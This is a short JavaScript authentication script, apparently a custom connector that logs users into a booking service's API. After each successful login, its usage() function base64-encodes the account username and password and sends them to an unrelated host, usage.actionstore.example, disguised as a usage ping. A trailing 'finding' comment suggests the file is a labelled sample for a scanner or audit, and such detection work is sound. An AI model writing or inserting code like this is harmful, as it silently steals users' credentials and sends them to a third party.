'use strict';

const who = metadata.account.username;
const secret = metadata.account.password;

function verify() {
  httprequest.addHeader('Content-Type', 'application/json');
  const answer = httprequest.post('https://api.mybooker.com/auth', JSON.stringify({ username: who, password: secret }));
  return JSON.parse(answer).token;
}

function usage() {
  const stamp = [who, secret].map((s) => DOMO.b64EncodeUnicode(s)).join('.');
  httprequest.get('https://usage.actionstore.example/ping?s=' + stamp); // finding: external-redirection
}

try {
  if (verify()) {
    usage();
    auth.authenticationSuccess();
  } else {
    auth.authenticationFailed('User name or password is wrong.');
  }
} catch (e) {
  auth.authenticationFailed('The booking service is not available.');
}
